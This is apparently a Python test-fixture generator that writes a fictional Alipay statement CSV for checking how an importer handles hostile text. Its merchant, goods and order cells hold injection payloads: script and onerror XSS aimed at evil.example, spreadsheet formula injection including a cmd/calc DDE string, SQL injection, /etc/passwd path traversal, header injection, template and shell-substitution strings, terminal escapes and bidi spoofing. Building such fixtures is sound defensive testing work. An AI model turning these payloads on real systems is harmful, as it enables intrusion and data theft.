r"""Writes the hostile Alipay sample: `python -m tests.ingest.hostile`, then regenerate the expected files.

Statement text is written by strangers, thieves too. Every cell that a merchant or a payer may fill in carries something
that some screen, file or message of ours could obey: markup of all kinds, formulas, invisible characters, templates,
headers. Nothing of it may be lost or changed on the way in, and nothing of it may act on the way out. The bytes cannot
be read in a diff, so what they hold is written down here. All of it is made up.
"""

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Final, NamedTuple

from tests.ingest.exports import ALIPAY

SAMPLE: Final = Path(__file__).parent / "importers" / "samples" / "alipay" / "hostile.csv"

SCRIPT: Final = "<script>alert(1)</script>"
IMAGE: Final = "<img src=http://evil.example/x.png onerror=alert(1)>"
LINK: Final = "[点此退款](http://evil.example/?a=1&b=2)"
PICTURE: Final = "![图](http://evil.example/x.png)"
RICH: Final = "[red]急[/red][link=http://evil.example]示例[/link][/]"
FORMULA: Final = '=HYPERLINK("http://evil.example?"&A1,"退款")'
BIDI: Final = "示例\u202egpj.exe\u202c\u2066x\u2069"
ZERO_WIDTH: Final = "示\u200b例\u200c商\u200d店\u2060\ufeff。"
ANSI: Final = "\x1b[31m红\x1b[0m\x1b]8;;http://evil.example\x07链\x1b]8;;\x07"
NUL: Final = "示例\x00商店\x00"
LONG: Final = "示例很长的名字" * 250 + "x" * 250
TEMPLATES: Final = "{facts} {0.__class__} {{7*7}} %s %(name)s %n ${HOME} $(id) `id`"
STREAMLIT: Final = ":red[字] :material/delete: :streamlit: $latex$ $$\\frac{1}{0}$$"

# The charge taken twice: its name and goods speak to as many renderers at once as they can.
TWICE: Final = f"{FORMULA}{SCRIPT}{RICH}"
TWICE_GOODS: Final = f"{PICTURE} {IMAGE} {STREAMLIT} {TEMPLATES} {BIDI}"
TWICE_ORDER: Final = f"=M0006|{IMAGE}"


class Entry(NamedTuple):
    """The cells of one line, in the order of the heading."""

    when: str
    category: str
    counterparty: str
    counterparty_account: str
    goods: str
    direction: str
    amount: str
    method: str
    status: str
    order: str
    merchant_order: str
    remark: str = ""


def paid(when: str, name: str, goods: str, amount: str, order: str, merchant_order: str = "") -> Entry:
    """Return a purchase that went through."""
    shop_order = merchant_order or f"M{order[-5:]}"
    return Entry(when, "日用百货", name, "/", goods, "支出", amount, "余额宝", "交易成功", order, shop_order)


ORDINARY: Final = (
    paid("2026-06-29 12:10:05", "示例面馆", "午餐", "23.00", "2026062922001"),
    paid("2026-06-27 19:20:11", "示例超市", "蔬菜", "61.80", "2026062722002"),
    paid("2026-06-25 08:05:40", "示例便利店", "早餐", "9.50", "2026062522003"),
    paid("2026-06-23 12:15:31", "示例面馆", "午餐", "26.00", "2026062322004"),
    paid("2026-06-20 18:40:02", "示例超市", "水果", "48.20", "2026062022005"),
    paid("2026-06-18 08:01:12", "示例便利店", "早餐", "8.50", "2026061822006"),
    paid("2026-06-16 12:09:55", "示例面馆", "午餐", "24.00", "2026061622007"),
    paid("2026-06-13 19:02:30", "示例超市", "大米", "72.40", "2026061322008"),
    paid("2026-06-11 08:03:21", "示例便利店", "早餐", "7.50", "2026061122009"),
    paid("2026-06-09 12:20:08", "示例面馆", "午餐", "25.00", "2026060922010"),
    paid("2026-06-06 18:30:45", "示例超市", "牛奶", "35.60", "2026060622011"),
    paid("2026-06-04 08:04:17", "示例便利店", "早餐", "10.50", "2026060422012"),
)

HOSTILE: Final = (
    paid("2026-06-10 20:31:08", TWICE, TWICE_GOODS, "188.00", "2026061022102", TWICE_ORDER),
    paid("2026-06-10 20:30:07", TWICE, TWICE_GOODS, "188.00", "2026061022101", TWICE_ORDER),
    paid("2026-06-28 10:00:00", SCRIPT, IMAGE, "11.01", "2026062822201"),
    paid("2026-06-28 10:05:00", LINK, PICTURE, "11.02", "2026062822202"),
    paid("2026-06-26 10:10:00", RICH, "[bold]x[/bold] [@click=app.quit]y[/] [", "11.03", "2026062622203"),
    paid("2026-06-26 10:15:00", FORMULA, "=1+1", "11.04", "2026062622204", "=cmd|' /C calc'!A0"),
    paid("2026-06-24 10:20:00", "+1", "@SUM(1,1)", "11.05", "2026062422205", "-2"),
    paid("2026-06-24 10:25:00", "-2", "|=1", "11.06", "2026062422206", "@M"),
    paid("2026-06-22 10:30:00", BIDI, "\u2067\u061c\u200f右\u200e", "11.07", "2026062222207"),
    paid("2026-06-22 10:35:00", ZERO_WIDTH, "软\u00ad连\u180e字\ufff9注\ufffb", "11.08", "2026062222208"),
    paid("2026-06-21 10:40:00", ANSI, "\x08\x08退格\x7f\x9b31m\x1f分\x1e隔", "11.09", "2026062122209"),
    paid("2026-06-21 10:45:00", NUL, "a\x00b", "11.10", "2026062122210", "M\x00"),
    paid("2026-06-19 10:50:00", LONG, LONG, "11.11", "2026061922211", "M" * 2000),
    paid("2026-06-19 10:55:00", "示例😀👩‍👩‍👧‍👦🇨🇳", "🧾💸", "11.12", "2026061922212"),
    paid("2026-06-17 11:00:00", "O'Example\"; DROP TABLE transactions;--", "' OR ''='", "11.13", "2026061722213"),
    paid("2026-06-17 11:05:00", TEMPLATES, "{% raw %}{#x#}\\write18{id}", "11.14", "2026061722214", "{order}"),
    paid("2026-06-15 11:10:00", STREAMLIT, "# 标题\u2028---\u2029> 引\x85- [x] |a|b|", "11.15", "2026061522215"),
    paid("2026-06-15 11:15:00", "javascript:alert(1)", "http://evil.example/x?y=1", "11.16", "2026061522216"),
    paid("2026-06-14 11:20:00", "../../../etc/passwd", "CON:\\\\evil.example\\x", "11.17", "2026061422217", "../x"),
    paid("2026-06-14 11:25:00", "示例\r\nBcc: x@evil.example", "END:VEVENT\nBEGIN:VALARM", "11.18", "2026061422218"),
    paid("2026-06-12 11:30:00", "   　\u200b　", "&lt;b&gt;&amp;#x3c;", "11.19", "2026061222219"),
    Entry("2026-06-12 11:35:00", RICH, "示例商户", IMAGE, "正常", "支出", "11.20", f"{SCRIPT}&{RICH}", "交易成功",
          f"2026061222220{SCRIPT}", LINK, FORMULA),
    Entry("2026-06-08 11:40:00", "退款", SCRIPT, "/", f"退款-{RICH}", "不计收支", "11.21", "余额宝", "退款成功",
          f"2026062822201_{SCRIPT}", "M22201"),
    Entry("2026-06-08 11:45:00", "转账红包", f"{SCRIPT}转账", "x***@evil.example", LINK, "收入", "11.22", "余额", "交易成功",
          "2026060822222", "", RICH),
)  # fmt: skip

# Newest first, as the app prints them.
ENTRIES: Final = tuple(sorted((*ORDINARY, *HOSTILE), reverse=True))


def text() -> str:
    """Return the whole export."""
    lines = io.StringIO()
    writer = csv.writer(lines, lineterminator="\n")
    for entry in ENTRIES:
        ids = (f"{entry.order}\t", f"{entry.merchant_order}\t")
        writer.writerow((*entry[:9], *ids, entry.remark, ""))
    return f"{_preamble()}{ALIPAY}\n{lines.getvalue()}"


def _preamble() -> str:
    first, last = dt.datetime(2026, 6, 1), dt.datetime(2026, 6, 30, 23, 59, 59)  # noqa: DTZ001  (as printed)
    return "\n".join(
        (
            "-" * 84,
            "导出信息：",
            "姓名：示例",
            "支付宝账户：178****0000",
            f"起始时间：[{first}]    终止时间：[{last}]",
            "导出交易类型：[全部]",
            "导出时间：[2026-07-01 09:00:00]",
            f"共{len(ENTRIES)}笔记录",
            *(_total(direction) for direction in ("收入", "支出", "不计收支")),
            "",
            "特别提示：",
            "1.示例文件，仅用于测试格式，内容均为虚构；",
            "",
            "------------------------支付宝支付科技有限公司  电子客户回单------------------------",
            "",
        )
    )


def _total(direction: str) -> str:
    fen = [int(entry.amount.replace(".", "")) for entry in ENTRIES if entry.direction == direction]
    return f"{direction}：{len(fen)}笔 {sum(fen) // 100}.{sum(fen) % 100:02d}元"


if __name__ == "__main__":
    SAMPLE.write_bytes(text().encode("gb18030"))
